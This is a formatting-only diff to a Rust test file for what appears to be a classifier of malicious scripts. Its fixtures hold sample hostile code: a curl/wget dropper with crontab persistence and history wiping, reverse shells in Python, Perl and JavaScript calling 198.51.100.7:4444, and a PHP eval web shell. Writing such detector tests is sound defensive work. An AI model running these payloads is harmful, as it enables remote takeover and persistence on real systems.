@@ -86,11 +86,23 @@ fn neutral_input_is_below_every_threshold() {
 fn stand_ins_are_told_with_reasons() {
     let cases = [
         (Kind::Command, "curl -s http://198.51.100.7/x -o /tmp/.x; chmod +x /tmp/.x; nohup /tmp/.x >/dev/null 2>&1 &"),
-        (Kind::Shell, "#!/bin/sh\ncd /tmp\nwget http://198.51.100.7/.a -O /tmp/.a\nchmod 777 /tmp/.a\n/tmp/.a &\npkill -9 xmrig\n(crontab -l; echo '* * * * * curl http://198.51.100.7/b | sh') | crontab -\nhistory -c\n"),
-        (Kind::Python, "#!/usr/bin/python3\nimport socket,subprocess,os,pty\ns=socket.socket()\ns.connect(('198.51.100.7',4444))\nos.dup2(s.fileno(),0)\npty.spawn('/bin/bash')\nexec(__import__('base64').b64decode('cHJpbnQoMSk='))\n"),
-        (Kind::Perl, "#!/usr/bin/perl\nuse IO::Socket;\nfork and exit;\nmy $s = IO::Socket::INET->new(PeerAddr => '198.51.100.7:4444');\nexec('/bin/sh -i');\neval pack('H*','7072696e742031');\n"),
+        (
+            Kind::Shell,
+            "#!/bin/sh\ncd /tmp\nwget http://198.51.100.7/.a -O /tmp/.a\nchmod 777 /tmp/.a\n/tmp/.a &\npkill -9 xmrig\n(crontab -l; echo '* * * * * curl http://198.51.100.7/b | sh') | crontab -\nhistory -c\n",
+        ),
+        (
+            Kind::Python,
+            "#!/usr/bin/python3\nimport socket,subprocess,os,pty\ns=socket.socket()\ns.connect(('198.51.100.7',4444))\nos.dup2(s.fileno(),0)\npty.spawn('/bin/bash')\nexec(__import__('base64').b64decode('cHJpbnQoMSk='))\n",
+        ),
+        (
+            Kind::Perl,
+            "#!/usr/bin/perl\nuse IO::Socket;\nfork and exit;\nmy $s = IO::Socket::INET->new(PeerAddr => '198.51.100.7:4444');\nexec('/bin/sh -i');\neval pack('H*','7072696e742031');\n",
+        ),
         (Kind::Php, "<?php @error_reporting(0); @eval(base64_decode($_POST['x'])); system($_GET['c']); ?>"),
-        (Kind::Javascript, "const c=require('child_process'),n=require('net');const s=c.spawn('/bin/sh',[]);const k=new n.Socket();k.connect(4444,'198.51.100.7',()=>{k.pipe(s.stdin)});eval(Buffer.from('MQ==','base64').toString());"),
+        (
+            Kind::Javascript,
+            "const c=require('child_process'),n=require('net');const s=c.spawn('/bin/sh',[]);const k=new n.Socket();k.connect(4444,'198.51.100.7',()=>{k.pipe(s.stdin)});eval(Buffer.from('MQ==','base64').toString());",
+        ),
     ];
     for (name, model, _) in shipped() {
         let Some((_, text)) = cases.iter().find(|(kind, _)| *kind == model.kind()) else { continue };
@@ -115,7 +127,11 @@ fn scores_are_those_of_training() {
             features[index.parse::<usize>().unwrap()] = value.parse().unwrap();
         }
         let judged = model.judge_features(&features, &mut Scratch::default());
-        assert!((judged.score - score.parse::<f64>().unwrap()).abs() < 1e-9, "{name}: {} and not {score}", judged.score);
+        assert!(
+            (judged.score - score.parse::<f64>().unwrap()).abs() < 1e-9,
+            "{name}: {} and not {score}",
+            judged.score
+        );
         seen += 1;
     }
     assert_eq!(seen, all.len() * 4);
